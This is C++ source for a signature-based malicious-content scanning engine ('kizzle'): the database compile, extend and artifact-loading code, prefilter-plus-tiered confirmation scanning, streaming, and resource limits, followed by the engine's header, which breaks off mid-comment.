Database Database::compile(const std::vector<core::DeployedSignature>& sigs) {
  std::vector<Spec> specs;
  specs.reserve(sigs.size());
  for (const core::DeployedSignature& s : sigs) {
    specs.push_back(Spec{s.name, s.family, s.pattern});
  }
  return compile(specs);
}

Database Database::from_entries(std::vector<Entry> entries) {
  Database db;
  db.entries_ = std::move(entries);
  db.build_prefilter();
  db.refresh_fingerprint();
  return db;
}

Database Database::from_entries(std::vector<Entry> entries,
                                match::LiteralPrefilter prebuilt) {
  if (!prebuilt.built()) {
    throw ArtifactError("engine::Database: prefilter not built");
  }
  if (prebuilt.id_count() != entries.size()) {
    throw ArtifactError(
        "engine::Database: prefilter id count disagrees with entry list");
  }
  Database db;
  db.entries_ = std::move(entries);
  db.prefilter_ = std::move(prebuilt);
  db.refresh_fingerprint();
  return db;
}

namespace {

// Compiles a loaded signature list into entries without the loader's trial
// compilation (a bad pattern still throws here).
std::vector<Database::Entry> compile_entries(
    const std::vector<core::DeployedSignature>& signatures) {
  std::vector<Database::Entry> entries;
  entries.reserve(signatures.size());
  for (const core::DeployedSignature& s : signatures) {
    entries.push_back(
        Database::Entry{s.name, s.family, match::Pattern::compile(s.pattern)});
  }
  return entries;
}

}  // namespace

Database Database::from_artifact(
    std::istream& artifact,
    std::vector<core::DeployedSignature>* signatures_out) {
  // No trial compilation inside the loader: every pattern is compiled for
  // real right below (and a bad one still throws).
  core::BundleArtifact loaded =
      core::load_artifact(artifact, /*validate_patterns=*/false);
  std::vector<Entry> entries = compile_entries(loaded.signatures);
  if (signatures_out != nullptr) *signatures_out = std::move(loaded.signatures);
  // The release-time automaton, exactly as built by `kizzle pack` /
  // KizzlePipeline::export_artifact — no per-process rebuild.
  return from_entries(std::move(entries), std::move(loaded.prefilter));
}

Database Database::from_artifact(
    std::shared_ptr<const support::MappedFile> mapping,
    std::vector<core::DeployedSignature>* signatures_out) {
  if (mapping == nullptr) {
    throw ArtifactError("engine::Database::from_artifact: null mapping");
  }
  core::BundleArtifact loaded =
      core::load_artifact(mapping->bytes(), /*validate_patterns=*/false);
  std::vector<Entry> entries = compile_entries(loaded.signatures);
  if (signatures_out != nullptr) *signatures_out = std::move(loaded.signatures);
  Database db = from_entries(std::move(entries), std::move(loaded.prefilter));
  // The prefilter's tables may be views into the mapping (zero-copy v2
  // path) — pin it for the database's lifetime. Harmless when the loader
  // fell back to owned copies (v1 artifact, misaligned range).
  db.mapping_ = std::move(mapping);
  return db;
}

Database Database::extend(Entry extra) const {
  Database out;
  out.entries_.reserve(entries_.size() + 1);
  // Shared programs: copying an existing entry is O(1).
  out.entries_.insert(out.entries_.end(), entries_.begin(), entries_.end());
  out.entries_.push_back(std::move(extra));
  out.retired_ = retired_;
  out.retired_count_ = retired_count_;
  out.build_prefilter();
  out.refresh_fingerprint();
  return out;
}

Database Database::extend(const core::DeltaArtifact& delta) const {
  if (delta.base_fingerprint != fingerprint_) {
    throw ArtifactError(
        "engine::Database::extend: delta base fingerprint does not match the "
        "live database (wrong lineage or out-of-order apply)");
  }
  Database out;
  out.entries_.reserve(entries_.size() + delta.added.size());
  // Shared programs: only the added patterns are compiled below.
  out.entries_.insert(out.entries_.end(), entries_.begin(), entries_.end());
  out.retired_ = retired_;
  out.retired_.resize(entries_.size(), 0);
  out.retired_count_ = retired_count_;
  for (const std::uint64_t idx : delta.retired) {
    if (idx >= entries_.size()) {
      throw ArtifactError(
          "engine::Database::extend: retired index out of range");
    }
    if (out.retired_[static_cast<std::size_t>(idx)] != 0) {
      throw ArtifactError(
          "engine::Database::extend: signature already retired");
    }
    out.retired_[static_cast<std::size_t>(idx)] = 1;
    ++out.retired_count_;
  }
  for (const core::DeployedSignature& s : delta.added) {
    out.entries_.push_back(
        Entry{s.name, s.family, match::Pattern::compile(s.pattern)});
  }
  // Retired slots keep their index in the rebuilt automaton (candidate ids
  // stay lineage indices); the confirmation loop is the single choke point
  // that drops them.
  out.build_prefilter();
  out.refresh_fingerprint();
  if (out.fingerprint_ != delta.result_fingerprint) {
    throw ArtifactError(
        "engine::Database::extend: applied delta does not reproduce its "
        "declared result fingerprint");
  }
  return out;
}

const std::string& Database::name(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::name: bad index");
  }
  return entries_[index].name;
}

const std::string& Database::family(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::family: bad index");
  }
  return entries_[index].family;
}

const match::Pattern& Database::pattern(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("engine::Database::pattern: bad index");
  }
  return entries_[index].pattern;
}

// ------------------------------- scanning ------------------------------

namespace {

using Clock = std::chrono::steady_clock;

// Escalates the outcome's status to `status` if it is more severe than
// what is already recorded (the enum is ordered by severity), tagging the
// stage the limit took effect at.
void escalate(ScanOutcome& out, ScanStatus status, ScanStage stage) {
  if (status > out.status) {
    out.status = status;
    out.limited_stage = stage;
  }
}

// One scan's armed deadline: resolved once from the scratch's limits, then
// polled at cheap boundaries. An unarmed gate is two loads and no clock
// reads.
struct DeadlineGate {
  Clock::time_point at{};
  bool armed = false;

  static DeadlineGate arm(const ScanLimits& limits) {
    DeadlineGate g;
    if (limits.has_deadline()) {
      g.at = limits.effective_deadline(Clock::now());
      g.armed = g.at != Clock::time_point{};
    }
    return g;
  }
  static DeadlineGate from(Clock::time_point at) {
    return DeadlineGate{at, at != Clock::time_point{}};
  }
  bool expired() const { return armed && Clock::now() >= at; }
};

// How many candidate confirmations run between deadline polls. Confirming
// one candidate is itself bounded (compiled tiers can't blow up, the VM is
// step-budgeted), so a coarse interval keeps clock reads off the common
// path while still bounding overshoot.
constexpr std::size_t kDeadlinePollMask = 15;

// The one confirmation loop every scan shape funnels into. Candidates are
// ascending, so the first delivered event is the brute-force first match.
// Confirmation dispatches on the pattern's compile-time tier
// (Pattern::confirm_span): find() for pure literals, the compiled confirm
// program for literal-dominated signatures, the backtracking VM only for
// regex-shaped ones — whose budget overruns are counted and skipped,
// exactly like the pre-engine Scanner/SignatureBundle paths (the compiled
// tiers cannot overrun). Tier counts land in scratch.stats_. The scratch's
// ScanLimits govern the loop: vm_step_budget tightens each VM
// confirmation, and the deadline gate is polled every few candidates —
// expiry abandons the remaining candidates and reports kDeadlineExpired
// rather than finishing late.
ScanOutcome confirm_loop(const Database& db,
                         std::span<const std::size_t> candidates,
                         std::string_view text, match::VmScratch& vm,
                         ScanStats& stats, const CandidateFn* should_confirm,
                         MatchFn on_match,
                         const std::vector<std::uint32_t>* hints,
                         std::uint64_t vm_budget, DeadlineGate gate) {
  ScanOutcome out;
  stats.candidates = candidates.size();
  stats.confirmed_literal = 0;
  stats.confirmed_literal_dominated = 0;
  stats.confirmed_vm = 0;
  const std::span<const Database::Entry> entries = db.entries();
  std::size_t polled = 0;
  for (const std::size_t i : candidates) {
    if (gate.armed && (polled++ & kDeadlinePollMask) == 0 && gate.expired()) {
      escalate(out, ScanStatus::kDeadlineExpired, ScanStage::kConfirm);
      break;
    }
    if (i >= entries.size()) {
      throw std::out_of_range("engine::confirm: bad candidate index");
    }
    // Tombstoned by a delta: the slot keeps its index (the prefilter still
    // reports it) but must never produce an event. Every scan shape —
    // one-shot, pre-gated, stream finish — funnels through here.
    if (db.entry_retired(i)) continue;
    if (should_confirm != nullptr && !(*should_confirm)(i)) continue;
    const Database::Entry& entry = entries[i];  // bounds-checked above
    switch (entry.pattern.confirm_tier()) {
      case match::ConfirmTier::kLiteral:
        ++stats.confirmed_literal;
        break;
      case match::ConfirmTier::kLiteralDominated:
        ++stats.confirmed_literal_dominated;
        break;
      case match::ConfirmTier::kRegex:
        ++stats.confirmed_vm;
        break;
    }
    // The prefilter's tier-2 confirm already located each surviving id's
    // literal; seed the confirmation there instead of re-finding it.
    std::size_t hint = match::Pattern::knpos;
    if (hints != nullptr && i < hints->size() &&
        (*hints)[i] != match::teddy::kNoHint) {
      hint = (*hints)[i];
    }
    const match::SpanResult r =
        entry.pattern.confirm_span(text, vm, 0, vm_budget, hint);
    if (r.budget_exceeded) {
      ++out.budget_exceeded;
      continue;
    }
    if (!r.matched) continue;
    ++out.events;
    const MatchEvent event{i, r.begin, r.end, entry.name, entry.family};
    if (on_match(event) == ScanDecision::Stop) {
      out.stopped = true;
      break;
    }
  }
  if (out.budget_exceeded > 0) {
    escalate(out, ScanStatus::kBudgetExhausted, ScanStage::kConfirm);
  }
  return out;
}

// Intake cap: clips `text` to the scratch's max_input_bytes and returns
// how many bytes were dropped (0 when unlimited or in bounds).
std::size_t clip_input(const ScanLimits& limits, std::string_view& text) {
  if (limits.max_input_bytes == 0 || text.size() <= limits.max_input_bytes) {
    return 0;
  }
  const std::size_t dropped = text.size() - limits.max_input_bytes;
  text = text.substr(0, limits.max_input_bytes);
  return dropped;
}

// The governed one-shot scan body; the scratch's members arrive as
// explicit references because only the public scan() overloads are
// friends of Scratch.
ScanOutcome scan_impl(const Database& db, std::string_view text,
                      const ScanLimits& limits,
                      std::vector<std::size_t>& candidates,
                      match::teddy::HitBuffer& teddy_hits,
                      std::vector<std::uint32_t>& hints, match::VmScratch& vm,
                      ScanStats& stats, const CandidateFn* should_confirm,
                      MatchFn on_match) {
  const std::size_t dropped = clip_input(limits, text);
  const DeadlineGate gate = DeadlineGate::arm(limits);
  if (gate.expired()) {
    // Expired before any work: deliver nothing, report where it stopped.
    candidates.clear();
    stats = ScanStats{};
    ScanOutcome out;
    out.truncated_bytes = dropped;
    escalate(out, ScanStatus::kDeadlineExpired, ScanStage::kPrefilter);
    return out;
  }
  db.prefilter().candidates_into(text, candidates, teddy_hits,
                                 &stats.prefilter, &hints);
  ScanOutcome out =
      confirm_loop(db, candidates, text, vm, stats, should_confirm, on_match,
                   &hints, limits.vm_step_budget, gate);
  out.truncated_bytes = dropped;
  if (dropped > 0) escalate(out, ScanStatus::kTruncated, ScanStage::kInput);
  return out;
}

}  // namespace

ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 MatchFn on_match) {
  return scan_impl(db, text, scratch.limits_, scratch.candidates_,
                   scratch.teddy_hits_, scratch.hints_, scratch.vm_,
                   scratch.stats_, nullptr, on_match);
}

ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 CandidateFn should_confirm, MatchFn on_match) {
  return scan_impl(db, text, scratch.limits_, scratch.candidates_,
                   scratch.teddy_hits_, scratch.hints_, scratch.vm_,
                   scratch.stats_, &should_confirm, on_match);
}

ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch, MatchFn on_match) {
  scratch.stats_.prefilter = match::PrefilterStats{};
  return confirm_loop(db, candidates, text, scratch.vm_, scratch.stats_,
                      nullptr, on_match, nullptr,
                      scratch.limits_.vm_step_budget,
                      DeadlineGate::arm(scratch.limits_));
}

ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch,
                    CandidateFn should_confirm, MatchFn on_match) {
  scratch.stats_.prefilter = match::PrefilterStats{};
  return confirm_loop(db, candidates, text, scratch.vm_, scratch.stats_,
                      &should_confirm, on_match, nullptr,
                      scratch.limits_.vm_step_budget,
                      DeadlineGate::arm(scratch.limits_));
}

std::optional<MatchEvent> first_match(const Database& db, std::string_view text,
                                      Scratch& scratch, ScanOutcome* outcome) {
  std::optional<MatchEvent> first;
  ScanOutcome out = scan(db, text, scratch, [&first](const MatchEvent& event) {
    first = event;
    return ScanDecision::Stop;
  });
  if (outcome != nullptr) *outcome = out;
  return first;
}

// ------------------------------- streams -------------------------------

Stream open_stream(const Database& db, Scratch& scratch) {
  if (scratch.matcher_.has_value()) {
    scratch.matcher_->rebind(db.prefilter());
  } else {
    scratch.matcher_.emplace(db.prefilter());
  }
  scratch.normalized_.clear();
  // The stream's whole life runs under one deadline, armed here.
  scratch.stream_deadline_ =
      scratch.limits_.effective_deadline(Clock::now());
  scratch.stream_deadline_hit_ = false;
  scratch.stream_dropped_ = 0;
  return Stream(&db, &scratch);
}

void Stream::feed(std::string_view normalized_chunk) {
  Scratch& s = *scratch_;
  // Deadline poll per chunk: once the stream's deadline passes, feeding
  // becomes a counted no-op — finish() reports kDeadlineExpired.
  if (!s.stream_deadline_hit_ &&
      s.stream_deadline_ != Clock::time_point{} &&
      Clock::now() >= s.stream_deadline_) {
    s.stream_deadline_hit_ = true;
  }
  if (s.stream_deadline_hit_) {
    s.stream_dropped_ += normalized_chunk.size();
    return;
  }
  if (s.limits_.max_input_bytes != 0) {
    const std::size_t fed = s.normalized_.size();
    const std::size_t room =
        fed >= s.limits_.max_input_bytes ? 0
                                         : s.limits_.max_input_bytes - fed;
    if (normalized_chunk.size() > room) {
      s.stream_dropped_ += normalized_chunk.size() - room;
      normalized_chunk = normalized_chunk.substr(0, room);
      if (normalized_chunk.empty()) return;
    }
  }
  s.matcher_->feed(normalized_chunk);
  s.normalized_ += normalized_chunk;
}

ScanOutcome Stream::finish(MatchFn on_match) const {
  Scratch& s = *scratch_;
  const DeadlineGate gate = DeadlineGate::from(s.stream_deadline_);
  if (s.stream_deadline_hit_ || gate.expired()) {
    // The stream's deadline already passed: confirmation would only make
    // it later. Report where it stopped and deliver nothing.
    s.candidates_.clear();
    s.stats_ = ScanStats{};
    ScanOutcome out;
    out.truncated_bytes = s.stream_dropped_;
    escalate(out, ScanStatus::kDeadlineExpired, ScanStage::kInput);
    return out;
  }
  // Snapshot semantics: the cursor's candidate set is materialized into
  // the scratch's candidate buffer, then confirmed against the accumulated
  // text. Feeding may continue afterwards.
  s.matcher_->finish_into(s.candidates_);
  s.stats_.prefilter = match::PrefilterStats{};
  ScanOutcome out = confirm_loop(*db_, s.candidates_, s.normalized_, s.vm_,
                                 s.stats_, nullptr, on_match, nullptr,
                                 s.limits_.vm_step_budget, gate);
  out.truncated_bytes = s.stream_dropped_;
  if (s.stream_dropped_ > 0) {
    escalate(out, ScanStatus::kTruncated, ScanStage::kInput);
  }
  return out;
}

std::optional<MatchEvent> Stream::finish_first(ScanOutcome* outcome) const {
  std::optional<MatchEvent> first;
  ScanOutcome out = finish([&first](const MatchEvent& event) {
    first = event;
    return ScanDecision::Stop;
  });
  if (outcome != nullptr) *outcome = out;
  return first;
}

std::size_t Stream::bytes_fed() const { return scratch_->matcher_->bytes_fed(); }

}  // namespace kizzle::engine
