// The unified scan engine: one compiled database, per-thread scratch,
// event-driven matching (the Hyperscan compile/scratch/callback split).
//
// The paper deploys one compiled signature set through three very
// different admission points (browser, desktop, CDN) plus the pipeline's
// own coverage checks and the simulated AV baseline. All of them used to
// carry their own matching surface — per-scan candidate buffers, per-scan
// result vectors, a different result shape each. This header is the single
// seam they now share:
//
//   engine::Database   immutable compiled form of a signature set: the
//                      compiled patterns plus the shared Aho–Corasick
//                      literal prefilter. Built once (from specs, deployed
//                      signatures, precompiled entries, or a `.kpf`
//                      release artifact) and then shared read-only by any
//                      number of threads.
//   engine::Scratch    per-thread/per-worker mutable working memory: the
//                      candidate vector, the streaming cursor, the
//                      accumulated normalized text, and the backtracking
//                      VM's buffers. Steady-state scanning with a warm
//                      Scratch performs ZERO heap allocations (asserted in
//                      tests/engine_test.cpp); buffers grow to the
//                      database's high-water mark and stay.
//   scan()/confirm()   event-driven matching: every matching signature is
//                      delivered as a MatchEvent (index, span, name,
//                      family) to a callback that returns Continue or
//                      Stop. First-match consumers (deployment channels)
//                      and all-matches consumers (Scanner, the CLI, the
//                      experiments) are the same code path — they differ
//                      only in what the callback returns.
//   open_stream()      resumable scanning for text that arrives in chunks:
//                      the prefilter automaton streams over each piece
//                      (state carried across boundaries), finish() confirms
//                      only the candidates against the accumulated text.
//
// Events are delivered in ascending signature-index order (== issue
// order), so "first event" is exactly the brute-force first-match answer.
// Candidate confirmation is *tiered* (match::ConfirmTier): pure-literal
// signatures confirm with a find(), literal-dominated ones with their
// compiled confirm program, and only regex-shaped patterns run the
// backtracking VM — whose budget overruns are skipped and counted in
// ScanOutcome::budget_exceeded, never delivered.
//
// The sharded Teddy SIMD literal first stage (match/teddy.h) plugs in
// behind this seam — scans route through it with no channel changes — and
// per-scan counters for every tier surface through Scratch::stats().
//
// ----------------- Resource governance & failure taxonomy -----------------
//
// Scanned bytes are attacker-controlled, and a worker that hangs on one
// pathological document stops serving everyone behind it. The engine is
// therefore *governed*: a ScanLimits envelope (engine/limits.h) rides on
// the Scratch — per worker, like every other piece of mutable scan state —
// and applies to every scan()/confirm()/stream on that scratch:
//
//   max_input_bytes   bytes past the cap are dropped at intake (one-shot
//                     scans clip the text view; streams stop consuming
//                     feeds), never prefiltered, never confirmed against.
//   vm_step_budget    tightens the per-candidate backtracking-VM budget;
//                     the compiled literal/literal-dominated confirm tiers
//                     cannot blow up and ignore it.
//   wall_budget /     a wall-clock deadline, armed when the scan (or
//   deadline          stream) starts and checked only at cheap boundaries:
//                     stage transitions, chunk feeds, every few candidate
//                     confirmations. The scan returns at the next boundary
//                     after expiry — it never preempts mid-candidate, and
//                     it NEVER throws for a limit breach.
//
// Every breach is data, not control flow: ScanOutcome carries a ScanStatus
// (Complete / Truncated / BudgetExhausted / DeadlineExpired, most severe
// wins) plus the stage that hit the limit and the dropped byte count,
// right next to the ScanStats counters. A default ScanLimits bounds
// nothing and costs a few predictable branches — the governed hot path is
// the same zero-allocation hot path (asserted in tests/limits_test.cpp).
//
// Failures *outside* the scan path — malformed `.kpf` artifacts, corrupt
// serialized prefilters, unparsable signature databases — throw the typed
// taxonomy in support/errors.h (ArtifactError / InputError /
// ResourceError, all kizzle::Error, all std::runtime_error) instead of
// ad-hoc runtime_errors: loaders reject hostile bytes with a clean typed
// error and bounded allocation, never UB (fuzzed in fuzz/, pinned by
// tests/hostile_input_test.cpp). The deployment channels translate scan
// outcomes into per-channel fail-open/fail-closed policy (core/deploy.h).
#pragma once

#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <iosfwd>
#include <memory>
#include <mutex>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <type_traits>
#include <utility>
#include <vector>

#include "engine/limits.h"
#include "match/pattern.h"
#include "match/prefilter.h"

namespace kizzle::core {
struct DeployedSignature;
struct DeltaArtifact;
}

namespace kizzle::support {
class MappedFile;
}

namespace kizzle::engine {

// One delivered match. `name`/`family` view the database's own storage and
// stay valid for the database's lifetime; the span is in the scanned text.
struct MatchEvent {
  std::size_t sig_index = 0;  // index into the database
  std::size_t begin = 0;      // match span in the scanned (normalized) text
  std::size_t end = 0;
  std::string_view name;
  std::string_view family;
};

enum class ScanDecision { Continue, Stop };

// Non-owning callable reference (no std::function: a capturing lambda must
// not cost a heap allocation on the scan path). The referenced callable
// only needs to outlive the call it is passed to.
template <typename Signature>
class FunctionRef;

template <typename R, typename... Args>
class FunctionRef<R(Args...)> {
 public:
  template <typename F,
            typename = std::enable_if_t<
                !std::is_same_v<std::remove_cvref_t<F>, FunctionRef> &&
                std::is_invocable_r_v<R, F&, Args...>>>
  FunctionRef(F&& fn) noexcept  // NOLINT: implicit by design
      : obj_(const_cast<void*>(static_cast<const void*>(std::addressof(fn)))),
        call_([](void* obj, Args... args) -> R {
          return (*static_cast<std::add_pointer_t<F>>(obj))(
              std::forward<Args>(args)...);
        }) {}

  R operator()(Args... args) const {
    return call_(obj_, std::forward<Args>(args)...);
  }

 private:
  void* obj_;
  R (*call_)(void*, Args...);
};

// on_match: return Continue for all-matches semantics, Stop after the
// first event for first-match semantics.
using MatchFn = FunctionRef<ScanDecision(const MatchEvent&)>;
// Pre-confirmation gate: return false to skip a candidate without running
// the VM (e.g. a signature not yet deployed on the scanned day).
using CandidateFn = FunctionRef<bool(std::size_t)>;

struct ScanOutcome {
  std::size_t events = 0;           // MatchEvents delivered
  std::size_t budget_exceeded = 0;  // candidates skipped on VM budget
  bool stopped = false;             // the callback returned Stop

  // Resource-governance verdict (engine/limits.h): how the scan ended
  // (most severe breach wins), which stage hit the limit, and how many
  // input bytes the intake cap dropped. kComplete/kNone/0 on an
  // ungoverned or in-bounds scan. A non-Complete status means the event
  // list may be incomplete — the channels decide fail-open vs fail-closed.
  ScanStatus status = ScanStatus::kComplete;
  ScanStage limited_stage = ScanStage::kNone;
  std::size_t truncated_bytes = 0;

  bool complete() const { return status == ScanStatus::kComplete; }
};

// Per-scan observability, owned by the Scratch and overwritten by each
// scan on it (never accumulated): the prefilter's tier 1–2 counters plus
// how the candidates split across the confirmation tiers. scan() fills
// everything; confirm() and Stream::finish() fill the candidate/tier
// counters and zero the prefilter slice (the candidate list arrived from
// outside the call). Reading it costs nothing on the scan path — the
// counters are plain increments on memory the scratch already owns.
struct ScanStats {
  match::PrefilterStats prefilter;  // first-stage hits, shards, survivors
  std::size_t candidates = 0;       // ids handed to the confirmation loop
  std::size_t confirmed_literal = 0;            // pure find() confirmations
  std::size_t confirmed_literal_dominated = 0;  // compiled confirm programs
  std::size_t confirmed_vm = 0;                 // backtracking VM runs
};

// ------------------------------ database ------------------------------

// Immutable compiled signature database. Construction compiles (or
// adopts) the patterns and builds (or adopts) the literal prefilter; after
// that every member is const and safe to share across threads.
class Database {
 public:
  // Source form of one signature.
  struct Spec {
    std::string name;
    std::string family;
    std::string pattern;  // regex source
  };

  // Precompiled form (name/family label + compiled pattern).
  struct Entry {
    std::string name;
    std::string family;
    match::Pattern pattern;
  };

  // An empty database: scans deliver no events.
  Database();
  Database(Database&&) noexcept = default;
  Database& operator=(Database&&) noexcept = default;

  // Compiles pattern sources; throws match::PatternError on bad input.
  static Database compile(const std::vector<Spec>& specs);
  // Compiles a deployed signature set (core::DeployedSignature.pattern).
  static Database compile(const std::vector<core::DeployedSignature>& sigs);
  // Adopts precompiled entries and builds the prefilter over them.
  static Database from_entries(std::vector<Entry> entries);
  // Adopts precompiled entries plus a release-time prebuilt automaton
  // (skipping the per-process rebuild). Throws std::runtime_error if the
  // automaton's id count disagrees with the entry list.
  static Database from_entries(std::vector<Entry> entries,
                               match::LiteralPrefilter prebuilt);
  // Loads a `.kpf` bundle artifact (core/sigdb.h): signatures plus the
  // release-built automaton. Throws std::runtime_error on malformed input.
  // When `signatures_out` is non-null it receives the deployment metadata
  // (issued day, token length) the database itself does not retain.
  static Database from_artifact(
      std::istream& artifact,
      std::vector<core::DeployedSignature>* signatures_out = nullptr);
  // Zero-copy variant over a mapped `.kpf` file: for a version-2 artifact
  // the prefilter's automaton tables are views into the mapping, which the
  // database keeps alive (shared_ptr) for its own lifetime — cold-start
  // load cost becomes parse-and-validate instead of copy-everything, and
  // concurrent loaders of the same artifact share page-cache pages.
  static Database from_artifact(
      std::shared_ptr<const support::MappedFile> mapping,
      std::vector<core::DeployedSignature>* signatures_out = nullptr);

  // A database holding this database's entries plus `extra`, with the
  // prefilter rebuilt over the union. Existing patterns are shared, not
  // recompiled — the incremental deployment path (one new signature per
  // release).
  Database extend(Entry extra) const;

  // Applies a delta artifact (core/sigdb.h): tombstones `delta.retired`
  // and appends `delta.added`, compiling ONLY the added patterns (existing
  // compiled programs are shared). Lineage is enforced both ways: throws
  // kizzle::ArtifactError if `delta.base_fingerprint` does not match this
  // database's fingerprint(), or if the applied result does not reproduce
  // `delta.result_fingerprint`. The prefilter is rebuilt over all
  // non-retired entries; retired slots keep their index (events keep
  // meaning "index into the deployed lineage") but can never match again.
  Database extend(const core::DeltaArtifact& delta) const;

  // Lineage fingerprint of this database's signature identity set +
  // tombstones (core::fingerprint-compatible). Computed at construction.
  std::uint64_t fingerprint() const { return fingerprint_; }

  // True for a slot retired by a delta: kept for index stability, skipped
  // by every confirmation loop.
  bool entry_retired(std::size_t index) const {
    return index < retired_.size() && retired_[index] != 0;
  }
  // Entries minus tombstones — the number of signatures that can match.
  std::size_t active_size() const { return entries_.size() - retired_count_; }

  std::size_t size() const { return entries_.size(); }
  const std::string& name(std::size_t index) const;
  const std::string& family(std::size_t index) const;
  const match::Pattern& pattern(std::size_t index) const;
  // Read-only view over all entries; the scan loop indexes it directly
  // after its own bounds check instead of paying the per-field throwing
  // accessors per candidate.
  std::span<const Entry> entries() const { return entries_; }
  const match::LiteralPrefilter& prefilter() const { return prefilter_; }

 private:
  void build_prefilter();
  void refresh_fingerprint();

  std::vector<Entry> entries_;
  match::LiteralPrefilter prefilter_;
  // Tombstone bitmap (parallel to entries_; empty == nothing retired).
  std::vector<unsigned char> retired_;
  std::size_t retired_count_ = 0;
  std::uint64_t fingerprint_ = 0;
  // Keepalive for the zero-copy load path: when the prefilter's tables
  // are views into a mapped artifact, the mapping must outlive them. Null
  // for owning databases.
  std::shared_ptr<const support::MappedFile> mapping_;
};

// ------------------------------- scratch -------------------------------

class Stream;

// Per-thread (or per in-flight document) mutable scan state. Everything a
// scan needs to allocate lives here and is recycled across calls: the
// candidate list, the streaming automaton cursor, the accumulated
// normalized text, and the VM's backtracking buffers. A Scratch may be
// used with any number of databases over its lifetime (buffers re-size on
// first contact with a larger database, then stabilize). Not thread-safe:
// one Scratch per concurrent scan.
class Scratch {
 public:
  Scratch() = default;
  Scratch(Scratch&&) noexcept = default;
  Scratch& operator=(Scratch&&) noexcept = default;
  Scratch(const Scratch&) = delete;
  Scratch& operator=(const Scratch&) = delete;

  // The accumulated (normalized) text of the stream currently open on this
  // scratch — identical to the concatenation of every feed() since
  // open_stream(). Valid until the next open_stream()/scan() on this
  // scratch.
  const std::string& stream_text() const { return normalized_; }

  // Counters of the most recent scan()/confirm()/finish() on this scratch.
  const ScanStats& stats() const { return stats_; }

  // The resource envelope every subsequent scan/confirm/stream on this
  // scratch runs under. Copy-in by value (the struct is a handful of
  // words); the default bounds nothing. Changing limits mid-stream is
  // undefined — set them before open_stream().
  void set_limits(const ScanLimits& limits) { limits_ = limits; }
  const ScanLimits& limits() const { return limits_; }

 private:
  friend class Stream;
  friend ScanOutcome scan(const Database&, std::string_view, Scratch&,
                          MatchFn);
  friend ScanOutcome scan(const Database&, std::string_view, Scratch&,
                          CandidateFn, MatchFn);
  friend ScanOutcome confirm(const Database&, std::span<const std::size_t>,
                             std::string_view, Scratch&, MatchFn);
  friend ScanOutcome confirm(const Database&, std::span<const std::size_t>,
                             std::string_view, Scratch&, CandidateFn,
                             MatchFn);
  friend Stream open_stream(const Database&, Scratch&);

  std::vector<std::size_t> candidates_;
  // The Teddy first stage's candidate-position buffer (match/teddy.h):
  // grows to the database/text high-water mark and stays, like every other
  // buffer here, so one-shot scans stay allocation-free in steady state.
  match::teddy::HitBuffer teddy_hits_;
  // Per-id leftmost-literal-occurrence positions from the prefilter's
  // tier-2 confirm (teddy::kNoHint where unknown): confirmation seeds each
  // candidate's anchor search there instead of re-scanning the text.
  std::vector<std::uint32_t> hints_;
  std::string normalized_;  // stream accumulation buffer
  match::VmScratch vm_;
  std::optional<match::StreamingMatcher> matcher_;
  ScanStats stats_;
  ScanLimits limits_;
  // Stream governance (valid between open_stream() and the next rewind):
  // the armed deadline (epoch = none), whether it has already expired
  // (feeds stop consuming once it does), and bytes dropped by the intake
  // cap — reported as ScanOutcome::truncated_bytes at finish().
  std::chrono::steady_clock::time_point stream_deadline_{};
  bool stream_deadline_hit_ = false;
  std::size_t stream_dropped_ = 0;
};

// ------------------------------- scanning ------------------------------

// One-shot scan of `text`: prefilter pass, then candidate confirmation in
// ascending index order, one MatchEvent per matching signature (first
// match span each) until the callback stops the scan.
ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 MatchFn on_match);
// Same, with a pre-confirmation candidate gate.
ScanOutcome scan(const Database& db, std::string_view text, Scratch& scratch,
                 CandidateFn should_confirm, MatchFn on_match);

// Confirms an ascending candidate list (as produced by the prefilter or a
// streaming cursor over it) against `text`. scan() == prefilter +
// confirm(); stream finish() == cursor snapshot + confirm().
ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch, MatchFn on_match);
ScanOutcome confirm(const Database& db, std::span<const std::size_t> candidates,
                    std::string_view text, Scratch& scratch,
                    CandidateFn should_confirm, MatchFn on_match);

// Convenience for the ubiquitous first-match shape: the lowest-index
// matching signature, or nullopt. (A scan that only needs a yes/no or a
// single hit should not have to write a callback.) When `outcome` is
// non-null it receives the scan's governance verdict — a first-match
// consumer under ScanLimits (the serve workers) needs the match AND the
// status in one call, since "no match" on a truncated or expired scan is
// not the same answer as "no match" on a complete one.
std::optional<MatchEvent> first_match(const Database& db, std::string_view text,
                                      Scratch& scratch,
                                      ScanOutcome* outcome = nullptr);

// ------------------------------- streams -------------------------------

// Resumable scan over text that arrives in chunks. A Stream is a thin
// borrowing handle: all state lives in the Scratch (and the Database),
// which must both outlive it; one open stream per Scratch at a time.
// finish() is a snapshot — feeding may continue afterwards.
class Stream {
 public:
  // Consumes the next chunk of (already normalized) scan text: streams the
  // prefilter automaton over it and accumulates it for confirmation.
  void feed(std::string_view normalized_chunk);

  // Confirms the candidates seen so far against the accumulated text.
  // Identical to scan(db, <all chunks concatenated>, scratch, on_match).
  ScanOutcome finish(MatchFn on_match) const;
  // First-match snapshot; `outcome` (optional) receives the governance
  // verdict, mirroring first_match().
  std::optional<MatchEvent> finish_first(ScanOutcome* outcome = nullptr) const;

  // The accumulated text (== scratch.stream_text()).
  const std::string& text() const { return scratch_->normalized_; }
  std::size_t bytes_fed() const;

 private:
  friend Stream open_stream(const Database&, Scratch&);
  Stream(const Database* db, Scratch* scratch) : db_(db), scratch_(scratch) {}

  const Database* db_;
  Scratch* scratch_;
};

// Arms `scratch` for a new stream over `db` (rewinding any previous stream
// state) and returns the handle.
Stream open_stream(const Database& db, Scratch& scratch);

// ----------------------------- scratch pool ----------------------------

// A free list of Scratch instances for components that scan from many
// threads (CdnFilter workers, concurrent BrowserGate admissions): acquire
// a warm scratch, scan, return it on handle destruction. Steady state
